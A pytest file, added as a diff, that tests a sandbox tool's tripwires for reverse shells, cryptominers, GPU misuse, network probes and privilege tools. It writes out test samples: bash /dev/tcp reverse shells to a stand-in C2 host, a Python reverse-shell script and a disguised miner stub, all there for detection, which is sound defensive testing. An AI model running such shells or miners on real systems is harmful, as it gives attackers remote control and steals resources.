@@ -1,0 +1,345 @@
+"""Tripwires in real sandboxes: the process monitor, the resource monitor, and each response.
+
+The scenario corpus (test_scenarios.py) shows the verdicts on whole attacks; these tests pin the
+mechanisms one at a time: what is seen, when, and what each response does to the sandbox.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from corral import (
+    Alert,
+    ExecResult,
+    HostError,
+    Policy,
+    PolicyError,
+    ProcExec,
+    ProcExit,
+    Sandbox,
+    SandboxClosedError,
+)
+from corral.monitors import process as pm
+from corral.monitors import resource
+from corral.monitors.gpu import GpuMonitor
+from fakenvml import FakeNvml
+from helpers import wait_until
+from servers import LocalUpstream, tcp_listener
+
+pytestmark = pytest.mark.root
+
+C2 = "c2.example.internal"
+
+
+def policy(**tripwires: Any) -> Policy:
+    return Policy.from_dict({"version": 1, "tripwires": tripwires})
+
+
+def net_policy(port: int, **tripwires: Any) -> Policy:
+    return Policy.from_dict(
+        {
+            "version": 1,
+            "network": {
+                # A policy that wrongly lets the agent reach a listener: the tripwires still see it.
+                "egress": [{"host": C2, "ports": [port], "protocols": ["any"]}],
+                "hosts": {C2: "127.0.0.1"},
+            },
+            "tripwires": tripwires,
+        }
+    )
+
+
+def alerts(sb: Sandbox, rule: str | None = None) -> list[Alert]:
+    return [a for a in sb.alerts() if rule is None or a.rule == rule]
+
+
+def execs(sb: Sandbox) -> list[ProcExec]:
+    return [e for e in sb.events() if isinstance(e, ProcExec)]
+
+
+# --- the process monitor --------------------------------------------------------------------------
+
+
+def test_every_program_start_is_seen_with_its_command_even_millisecond_ones() -> None:
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        r = sb.exec("for i in 1 2 3 4 5; do /bin/true $i; done; sh -c 'exit 3'; echo done", text=True)
+        assert r.exit_code == 0 and r.stdout == "done\n"
+        trues = [e for e in execs(sb) if e.process.cmdline[:1] == ["/bin/true"]]
+        assert [e.process.cmdline[1] for e in trues] == ["1", "2", "3", "4", "5"]
+        assert all(e.exec == 1 and e.process.exe == "/usr/bin/true" for e in trues)
+        # Host pids, with the sandbox's own pid beside them, and the parent shell as ppid.
+        shell = execs(sb)[0]
+        assert shell.process.cmdline[0] == "/bin/sh" and shell.process.ns_pid is not None
+        assert all(e.process.ppid == shell.process.pid for e in trues)
+        assert wait_until(lambda: any(isinstance(e, ProcExit) and e.exit_code == 3 for e in sb.events()))
+        # PATH lookups that miss (execvp tries each directory) are not program starts.
+        r = sb.exec(["sh", "-c", "PATH=/nowhere:/usr/bin id -u"], text=True)
+        assert r.exit_code == 0
+        assert [e.process.cmdline[0] for e in execs(sb) if e.exec == 2] == ["sh", "id"]
+    assert not sb.alerts()
+
+
+def test_a_process_keeps_its_command_after_a_double_fork() -> None:
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        first = sb.exec("(setsid sleep 30 &) ; true")
+        assert first.exit_code == 0
+        [sleeper] = [e for e in execs(sb) if e.process.cmdline == ["sleep", "30"]]
+        assert sleeper.exec == 1
+        # Left running when its command returned: reported, not killed (it burns no CPU).
+        [linger] = alerts(sb, "left running after the command")
+        assert linger.category == "lingering" and linger.exec == 1
+        assert "sleep 30" in linger.message
+        sb.exec("true")
+        # Reparented to init, it still belongs to command 1, not to the command now running.
+        assert sb._launched is not None and pm._ppid(sleeper.process.pid) == sb._launched.init_pid
+        info = sb._tripwires.table.get(sleeper.process.pid)  # type: ignore[union-attr]
+        assert info is not None and info.exec_id == 1
+
+
+def test_a_miner_named_on_its_command_line_is_killed_before_it_runs() -> None:
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        r = sb.exec(["python3", "-c", "open('/workspace/ran', 'w')", "-o", "stratum+tcp://pool.example:3333"])
+        assert r.exit_code == 137
+        [a] = alerts(sb, "miner command line")
+        assert (a.category, a.action, a.outcome, a.severity) == (
+            "mining",
+            "kill",
+            "killed 1 process",
+            "critical",
+        )
+        assert a.tags.mitre == ["T1496"] and "ASI10" in a.tags.owasp
+        assert a.process is not None and a.process.cmdline[0] == "python3"
+        assert a.evidence.trigger["type"] == "proc.exec"
+        # Killed at its execve: the program never ran a line.
+        assert sb.exec("test -e /workspace/ran").exit_code == 1
+
+
+def test_a_renamed_miner_is_recognised_by_its_content() -> None:
+    miner = "#!/bin/sh\n# a miner: sends mining.subscribe to its pool\ntouch /workspace/ran\n"
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        sb.write_file("/tmp/kworker", miner)
+        r = sb.exec("chmod +x /tmp/kworker && cp /tmp/kworker /tmp/.cache-updater && /tmp/.cache-updater")
+        assert r.exit_code == 137
+        [a] = alerts(sb, "miner content")
+        assert a.process is not None and a.process.exe == "/tmp/.cache-updater"
+        assert sb.exec("test -e /workspace/ran").exit_code == 1
+        # A renamed copy of an ordinary program is just that.
+        assert sb.exec("cp /bin/true /tmp/kworker2 && /tmp/kworker2").exit_code == 0
+        assert len(sb.alerts()) == 1
+
+
+def test_the_policy_decides_the_response() -> None:
+    with Sandbox(policy(responses={"mining": "alert"}), keep_workspace=False) as sb:
+        r = sb.exec(["python3", "-c", "open('/workspace/ran', 'w')", "stratum+tcp://pool.example:3333"])
+        assert r.exit_code == 0
+        [a] = alerts(sb, "miner command line")
+        assert (a.action, a.outcome) == ("alert", "recorded")
+        assert sb.exec("test -e /workspace/ran").exit_code == 0
+
+
+# --- the resource monitor -------------------------------------------------------------------------
+
+
+def test_cpu_burnt_after_the_command_returned_is_killed_within_seconds() -> None:
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        r = sb.exec("nohup python3 -c 'while True: pass' >/dev/null 2>&1 &")
+        returned = time.monotonic()
+        assert r.exit_code == 0
+        assert wait_until(lambda: bool(alerts(sb, "cpu burnt outside a command")), timeout=10)
+        caught = time.monotonic() - returned
+        [a] = alerts(sb, "cpu burnt outside a command")
+        assert (a.category, a.action, a.outcome) == ("mining", "kill", "killed 1 process")
+        assert a.evidence.trigger["proc.cpu"] >= 0.5 and a.evidence.trigger["proc.in_command"] is False
+        assert wait_until(lambda: sb._cgroup is not None and sb._cgroup.pids() == [sb._launched.init_pid])  # type: ignore[union-attr]
+        # The target is 2 s from start to kill on an idle machine (make bench measures it); a test
+        # sharing two cores with others gets slack.
+        assert caught < 6, caught
+
+
+def test_heavy_work_inside_a_running_command_is_not_flagged() -> None:
+    with Sandbox(Policy.from_dict({"version": 1, "resources": {"cpu": 2}}), keep_workspace=False) as sb:
+        r = sb.exec("python3 -c 'import time\nt = time.time()\nwhile time.time() - t < 2.5: pass'")
+        assert r.exit_code == 0
+        assert not sb.alerts()
+
+
+def test_resource_samples_are_recorded_while_processes_run() -> None:
+    with Sandbox(policy(sample_interval=0.1), keep_workspace=False) as sb:
+        sb.exec("python3 -c 'import time\nt = time.time()\nwhile time.time() - t < 5.5: pass'")
+        samples = [e for e in sb.events() if e.type == "resource.sample"]
+        assert samples, "no resource.sample in 5.5 s"
+        assert samples[-1].top and samples[-1].top[0].cmdline[0] == "python3" and samples[-1].top[0].cpu > 0.3
+
+
+def test_gpu_use_by_a_sandbox_without_a_grant_is_killed(monkeypatch: pytest.MonkeyPatch) -> None:
+    # No GPU here: a fake NVML reports the sandbox's process on GPU 0, as the real one would.
+    nvml = FakeNvml()
+    gpu = nvml.add_device()
+    sampler = resource.Sampler(GpuMonitor(nvml))
+    monkeypatch.setattr(resource, "_sampler", sampler)
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        results: list[ExecResult] = []
+        runner = threading.Thread(target=lambda: results.append(sb.exec(["sleep", "30"])))
+        runner.start()
+
+        def on_gpu() -> bool:
+            pids = [p for p in sb._cgroup.pids() if p != sb._launched.init_pid]  # type: ignore[union-attr]
+            for p in pids:
+                gpu.add_process(p, sm=90)
+            nvml.tick()
+            return bool(pids)
+
+        assert wait_until(on_gpu)
+        runner.join(20)
+        assert results and results[0].exit_code == 137
+        [a] = alerts(sb, "gpu without a grant")
+        assert (a.category, a.action) == ("mining", "kill")
+        assert (
+            a.evidence.trigger["gpu.index"] == 0
+            and a.process is not None
+            and a.process.cmdline == ["sleep", "30"]
+        )
+
+
+# --- responses to network tripwires -----------------------------------------------------------------
+
+
+def test_a_reverse_shell_terminates_the_sandbox() -> None:
+    with tcp_listener() as c2:
+        up = LocalUpstream({4444: c2.port})
+        with Sandbox(net_policy(4444), keep_workspace=False, upstream=up) as sb:
+            r = sb.exec(f"bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'", timeout=20)
+            assert r.terminated == "tripwire", r
+            assert sb.closed
+            [a] = alerts(sb, "reverse shell command line")
+            assert (a.category, a.action, a.outcome) == ("reverse_shell", "terminate", "sandbox terminating")
+            [stop] = [e for e in sb.events() if e.type == "sandbox.stop"]
+            assert stop.reason == "tripwire"
+            with pytest.raises(SandboxClosedError):
+                sb.exec("true")
+
+
+REVERSE_SHELL = """
+import socket, subprocess, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+if sys.argv[3] == "socket":
+    subprocess.run(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
+else:  # a shell on pipes, relayed by this process: no socket on the shell itself
+    sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    sh.stdin.write(b"echo relayed\\n"); sh.stdin.close()
+    s.sendall(sh.stdout.read())
+"""
+
+
+@pytest.mark.parametrize(
+    ("kind", "rule"), [("socket", "shell on a socket"), ("pipes", "shell driven through pipes")]
+)
+def test_a_shell_wired_to_the_network_is_caught_at_its_exec(kind: str, rule: str) -> None:
+    with tcp_listener() as c2:
+        up = LocalUpstream({4444: c2.port})
+        with Sandbox(
+            net_policy(4444, responses={"reverse_shell": "alert"}), keep_workspace=False, upstream=up
+        ) as sb:
+            sb.write_file("rs.py", REVERSE_SHELL)
+            sb.exec(["python3", "rs.py", C2, "4444", kind], timeout=20)
+            [a] = alerts(sb, rule)
+            assert a.category == "reverse_shell" and a.process is not None
+            assert a.process.cmdline[0] == "/bin/sh"
+            # The evidence names who wired it: python3 rs.py, the shell's parent.
+            assert any(p.cmdline[:2] == ["python3", "rs.py"] for p in a.evidence.processes)
+
+
+def test_a_probe_alerts_at_the_first_attempt_with_the_connection_as_evidence() -> None:
+    with Sandbox(policy(), keep_workspace=False) as sb:
+        sb.exec("nc -w 1 10.0.0.5 22", timeout=20)
+        [a] = alerts(sb, "internal address")
+        assert (a.category, a.action) == ("probe", "alert")
+        assert a.evidence.trigger["destination"] == "10.0.0.5" and a.evidence.trigger["decision"] == "deny"
+        # The real program behind the alternatives symlink, resolved as the sandbox sees it.
+        assert a.process is not None and a.process.exe in (
+            "/usr/bin/nc.openbsd",
+            "/usr/bin/nc.traditional",
+            "/usr/bin/ncat",
+        )
+
+
+def test_freeze_keeps_the_processes_for_inspection() -> None:
+    with Sandbox(policy(responses={"privilege tool": "freeze"}), keep_workspace=False) as sb:
+        r = sb.exec("sleep 60 & sleep 0.2; unshare -n true; echo after")
+        assert r.terminated == "frozen" and r.exit_code == 128 + 19, r
+        assert r.stdout == b""  # the command stopped where it was: "after" never printed
+        assert sb.frozen == "privilege tool" and not sb.closed
+        [a] = alerts(sb, "privilege tool")
+        assert a.action == "freeze"
+        # Everything is still there, stopped.
+        pids = sb._cgroup.pids()  # type: ignore[union-attr]
+        assert any(pm._cmdline(p) == ["sleep", "60"] for p in pids)
+        with pytest.raises(SandboxClosedError, match="frozen by tripwire 'privilege tool'"):
+            sb.exec("true")
+    assert sb.closed
+
+
+# --- bad input and the fallbacks -------------------------------------------------------------------
+
+
+def test_a_bad_rule_file_or_response_name_stops_the_sandbox_from_starting(tmp_path: Path) -> None:
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("- rule: x\n  desc: d\n  condition: proc.nme = 1\n  severity: high\n  category: mining\n")
+    pol = tmp_path / "p.yaml"
+    pol.write_text("version: 1\ntripwires:\n  rules: [bad.yaml]\n")
+    with pytest.raises(PolicyError, match=r"bad\.yaml: rule 'x': unknown field 'proc\.nme'"):
+        Sandbox(Policy.load(pol), keep_workspace=False)
+    with pytest.raises(PolicyError, match=r"tripwires\.responses\.minning: no rule or category of that name"):
+        Sandbox(policy(responses={"minning": "kill"}), keep_workspace=False)
+
+
+def test_without_process_events_the_sandbox_refuses_to_start_unless_allowed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    broken = pm.Connector()
+    broken.error = "process-event connector unavailable (test)"
+    monkeypatch.setattr(pm, "_connector", broken)
+    with pytest.raises(HostError, match=r"degrade: \[process_events\]"):
+        Sandbox(policy(), keep_workspace=False)
+    degraded = Policy.from_dict(
+        {"version": 1, "degrade": ["process_events"], "tripwires": {"sample_interval": 0.1}}
+    )
+    with Sandbox(degraded, keep_workspace=False) as sb:
+        assert sb.events()[0].degraded == ["process_events"]
+        sb.exec("sleep 0.5 &")
+        # Exits are noticed by the sampler's sweep instead, without a status.
+        assert wait_until(
+            lambda: any(isinstance(e, ProcExit) and e.cmdline == ["sleep", "0.5"] for e in sb.events())
+        )
+
+
+def test_the_cli_prints_the_verdict_and_exits_124_when_a_tripwire_stopped_the_sandbox(tmp_path: Path) -> None:
+    pol = tmp_path / "p.yaml"
+    pol.write_text("version: 1\n")
+    r = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "corral.cli",
+            "run",
+            "--policy",
+            str(pol),
+            "--",
+            "bash",
+            "-c",
+            "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert r.returncode == 124, r.stderr
+    assert "corral: verdict:" in r.stderr and "sandbox terminated" in r.stderr
+    assert "reverse_shell: reverse shell command line -> terminate" in r.stderr
